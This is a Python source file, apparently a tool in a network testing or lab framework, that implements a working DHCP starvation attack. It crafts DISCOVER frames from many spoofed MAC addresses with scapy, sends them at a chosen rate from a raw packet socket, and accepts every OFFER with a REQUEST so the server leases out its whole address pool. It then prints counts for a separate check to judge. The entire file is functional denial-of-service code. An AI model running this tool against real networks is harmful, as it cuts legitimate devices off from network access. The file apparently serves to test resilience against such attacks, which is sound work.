"""A DHCP starvation attack, as Yersinia or dhcpstarv run it: one host asks
for addresses in the name of many made-up machines until the pool is empty.

``python -m services.tools.dhcp_starvation IFACE COUNT RATE WAIT PREFIX`` sends,
from IFACE, COUNT DISCOVERs at RATE a second, each from a made-up MAC
(:func:`made_up_macs`: PREFIX and a two-byte index) as Ethernet source and
chaddr, with the BROADCAST flag so that the answers reach this host although
no interface holds those MACs.  Every OFFER for one of them is taken: a
REQUEST for its yiaddr to its server identifier (SELECTING state), so that
the server really leases the address, not only offers it.  It keeps
answering OFFERs until WAIT seconds after the last DISCOVER, then prints one
JSON line: how many DISCOVERs, OFFERs, REQUESTs, ACKs and NAKs, and exits 0.
Whether the pool ran out is for the check to judge, from its captures and
the server's lease database.

The frames are crafted with scapy (once per kind of message, then copied
with each MAC, xid and address written in) and sent from a packet socket
inside the node, like :mod:`services.tools.rarp_client`.
"""

from __future__ import annotations

import argparse
import json
import select
import socket
import struct
import sys
import time
from dataclasses import asdict, dataclass

from . import arguments

ETH_P_IP = 0x0800
PACKET_OUTGOING = 4
BROADCAST_MAC = "ff:ff:ff:ff:ff:ff"
BROADCAST_FLAG = 0x8000
XID_BASE = 0x57A70000          # xid of made-up MAC i: XID_BASE + i
DISCOVER, OFFER, REQUEST, ACK, NAK = 1, 2, 3, 5, 6


def made_up_macs(count: int, prefix: str) -> list[str]:
    """``count`` MACs: a four-byte ``prefix`` (locally administered, so no
    real card has them) then the index in two bytes."""
    if len(prefix.split(":")) != 4:
        raise ValueError(f"a prefix of four bytes, like 02:5a:00:00, not {prefix!r}")
    if count > 1 << 16:
        raise ValueError(f"at most {1 << 16} MACs under one prefix, not {count}")
    return [f"{prefix}:{i >> 8:02x}:{i & 0xFF:02x}".lower() for i in range(count)]


def _chaddr(mac: str) -> bytes:
    return bytes.fromhex(mac.replace(":", "")) + b"\0" * 10


# Offsets in the frames below: Ethernet 14, IPv4 without options 20, UDP 8.
BOOTP_AT = 14 + 20 + 8
UDP_CHECKSUM_AT = 14 + 20 + 6
XID_AT, CHADDR_AT, OPTIONS_AT = BOOTP_AT + 4, BOOTP_AT + 28, BOOTP_AT + 240
# REQUEST options: message type (3 bytes), then 50 and 54 with 4 bytes each.
REQUESTED_AT, SERVER_ID_AT = OPTIONS_AT + 3 + 2, OPTIONS_AT + 3 + 6 + 2
_TEMPLATES: dict[str, bytes] = {}


def _template(kind: str) -> bytes:
    """The message crafted once with scapy, its UDP checksum zero ("none",
    which IPv4 allows), so that a copy per made-up MAC only needs its MAC,
    xid and addresses written in: scapy builds a frame in milliseconds, and
    a thousand of them on a busy two-core machine took longer than the
    attack itself may last."""
    if kind not in _TEMPLATES:
        from scapy.layers.dhcp import BOOTP, DHCP
        from scapy.layers.inet import IP, UDP
        from scapy.layers.l2 import Ether
        options = [("requested_addr", "0.0.0.0"), ("server_id", "0.0.0.0")] \
            if kind == "request" else []
        frame = bytes(Ether(src="00:00:00:00:00:00", dst=BROADCAST_MAC)
                      / IP(src="0.0.0.0", dst="255.255.255.255")
                      / UDP(sport=68, dport=67, chksum=0)
                      / BOOTP(op=1, xid=0, flags=BROADCAST_FLAG, chaddr=b"\0" * 16)
                      / DHCP(options=[("message-type", kind), *options, "end"]))
        assert frame[UDP_CHECKSUM_AT:UDP_CHECKSUM_AT + 2] == b"\0\0"
        if kind == "request":
            assert frame[REQUESTED_AT - 2] == 50 and frame[SERVER_ID_AT - 2] == 54
        _TEMPLATES[kind] = frame
    return _TEMPLATES[kind]


def _addressed(kind: str, mac: str, xid: int) -> bytearray:
    frame = bytearray(_template(kind))
    frame[6:12] = bytes.fromhex(mac.replace(":", ""))
    frame[XID_AT:XID_AT + 4] = struct.pack("!I", xid)
    frame[CHADDR_AT:CHADDR_AT + 16] = _chaddr(mac)
    return frame


def discover(mac: str, xid: int) -> bytes:
    return bytes(_addressed("discover", mac, xid))


def request(mac: str, xid: int, address: str, server: str) -> bytes:
    """The REQUEST of a client that takes an OFFER (SELECTING): options 50
    and 54, no ciaddr, broadcast."""
    frame = _addressed("request", mac, xid)
    frame[REQUESTED_AT:REQUESTED_AT + 4] = socket.inet_aton(address)
    frame[SERVER_ID_AT:SERVER_ID_AT + 4] = socket.inet_aton(server)
    return bytes(frame)


@dataclass(frozen=True)
class Reply:
    kind: int
    mac: str
    xid: int
    yiaddr: str
    server: str


def parse_reply(frame: bytes) -> Reply | None:
    """A BOOTREPLY to a client port (OFFER, ACK, NAK ...), else None; cheap
    checks first, since every frame of the broadcast domain comes by."""
    if len(frame) < 14 + 20 + 8 + 240 or frame[12:14] != b"\x08\x00" or frame[23] != 17:
        return None
    ihl = (frame[14] & 0x0F) * 4
    udp = 14 + ihl
    if struct.unpack("!H", frame[udp + 2:udp + 4])[0] != 68:
        return None
    from scapy.layers.dhcp import BOOTP, DHCP
    from scapy.layers.l2 import Ether
    packet = Ether(frame)
    if BOOTP not in packet or packet[BOOTP].op != 2 or DHCP not in packet:
        return None
    options = {o[0]: o[1] for o in packet[DHCP].options if isinstance(o, tuple) and len(o) > 1}
    bootp = packet[BOOTP]
    mac = ":".join(f"{b:02x}" for b in bytes(bootp.chaddr)[:6])
    return Reply(int(options.get("message-type", 0)), mac, bootp.xid, bootp.yiaddr,
                 str(options.get("server_id", "")))


@dataclass
class Tally:
    discovers: int = 0
    offers: int = 0
    requests: int = 0
    acks: int = 0
    naks: int = 0
    seconds: float = 0.0


def attack(iface: str, count: int, rate: float, wait: float, prefix: str) -> Tally:
    macs = made_up_macs(count, prefix)
    ours = {mac: XID_BASE + i for i, mac in enumerate(macs)}
    frames = [discover(mac, ours[mac]) for mac in macs]     # crafted before the clock runs
    tally, requested = Tally(), set()
    started = time.monotonic()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP)) as sock:
        sock.bind((iface, ETH_P_IP))
        sent, interval = 0, 1.0 / rate
        end = None
        while True:
            now = time.monotonic()
            if sent < count and now >= started + sent * interval:
                sock.send(frames[sent])
                sent += 1
                tally.discovers = sent
                if sent == count:
                    end = time.monotonic() + wait
                continue
            due = end if sent == count else started + sent * interval
            if sent == count and now >= end:
                break
            ready, _, _ = select.select([sock], [], [], max(0.0, due - now))
            if not ready:
                continue
            frame, address = sock.recvfrom(2048)
            if address[2] == PACKET_OUTGOING:
                continue
            reply = parse_reply(frame)
            if reply is None or ours.get(reply.mac) != reply.xid:
                continue
            if reply.kind == OFFER:
                tally.offers += 1
                if reply.mac not in requested and reply.server:
                    requested.add(reply.mac)
                    sock.send(request(reply.mac, reply.xid, reply.yiaddr, reply.server))
                    tally.requests += 1
            elif reply.kind == ACK:
                tally.acks += 1
            elif reply.kind == NAK:
                tally.naks += 1
    tally.seconds = round(time.monotonic() - started, 3)
    return tally


def parser() -> argparse.ArgumentParser:
    command = argparse.ArgumentParser(prog="python -m services.tools.dhcp_starvation",
                                      description="Empty a DHCP pool with DISCOVERs from made-up "
                                                  "MACs, taking every OFFER; print one JSON line "
                                                  "of counts.")
    command.add_argument("iface", help="the interface to attack from")
    command.add_argument("count", type=arguments.count, help="how many made-up MACs ask")
    command.add_argument("rate", type=arguments.rate, help="DISCOVERs a second")
    command.add_argument("wait", type=arguments.seconds,
                         help="seconds to keep answering OFFERs after the last DISCOVER")
    command.add_argument("prefix", help="the made-up MACs' first four bytes, like 02:5a:00:00")
    return command


def main(argv: list[str]) -> int:
    command = parser()
    args = command.parse_args(argv)
    try:
        made_up_macs(args.count, args.prefix)
    except ValueError as refused:
        command.error(str(refused))
    print(json.dumps(asdict(attack(args.iface, args.count, args.rate, args.wait, args.prefix))))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
